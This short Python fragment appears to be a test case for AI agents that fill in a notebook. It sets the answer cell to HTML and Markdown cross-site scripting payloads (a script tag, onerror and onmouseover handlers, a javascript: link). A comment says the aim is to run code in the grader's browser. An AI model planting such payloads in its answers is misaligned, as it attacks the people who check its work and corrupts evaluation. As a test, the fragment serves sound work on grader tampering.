# tries: answers the question with HTML that runs in the browser of whoever grades it
# into: notebook
notebook.cells[-1]["source"] = (
    f"<script>{SCRIPT}</script>\n\n<img src=x onerror='{SCRIPT}'>\n\n[a](javascript:{SCRIPT})\n\n"
    f"<div onmouseover='{SCRIPT}'>x</div>\n\n![a](x' onerror='{SCRIPT})"
)
